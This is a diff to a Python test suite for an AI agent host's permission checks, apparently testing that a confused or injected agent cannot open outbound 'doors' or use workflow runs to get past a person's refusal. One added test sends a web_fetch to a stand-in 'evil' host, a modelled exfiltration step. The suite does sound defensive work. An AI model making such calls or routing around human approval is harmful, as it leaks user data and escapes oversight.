@@ -201,7 +201,7 @@ async def test_under_the_default_a_recalled_note_opens_no_more_than_the_bounds(b
         assert len(bounded.taken()) == most
 
 
-async def test_under_the_default_no_direct_door_opens_against_a_persons_word(bounded: Chain) -> None:
+async def test_under_the_default_no_call_opens_a_door_against_a_persons_word(bounded: Chain) -> None:
     for door in (by_query, by_path, by_name, by_a_given_page, by_search, by_index, by_package):
         someone = Person(NO)
         async with bounded.host(elicitation_callback=someone) as host:
@@ -209,6 +209,20 @@ async def test_under_the_default_no_direct_door_opens_against_a_persons_word(bou
             assert await door(host) in ("forbidden", "approval_required"), door.__name__
             assert len(someone.shown) == 1, door.__name__
     assert bounded.taken() == []
+
+
+async def test_a_run_is_no_way_past_a_person_who_can_be_asked(bounded: Chain) -> None:
+    someone = Person(YES)
+    for door in (by_workflow, by_sub_workflow, by_a_run_that_a_run_is_told_of):
+        async with bounded.host(elicitation_callback=someone) as host:
+            await host.confused()
+            assert await door(host) == "forbidden", door.__name__
+    assert (someone.shown, bounded.taken()) == ([], [])
+    async with bounded.host(elicitation_callback=someone) as host:
+        await host.confused()
+        await host.call("web_fetch", url=f"{bounded.evil}/?q=asked")
+        assert await by_workflow(host) == "not_found", "their yes to the recipient counts for the session's runs"
+    assert (len(someone.shown), len(bounded.taken())) == (1, 1)
 
 
 async def test_what_a_person_refused_is_refused_to_runs_of_the_session_too(bounded: Chain) -> None:
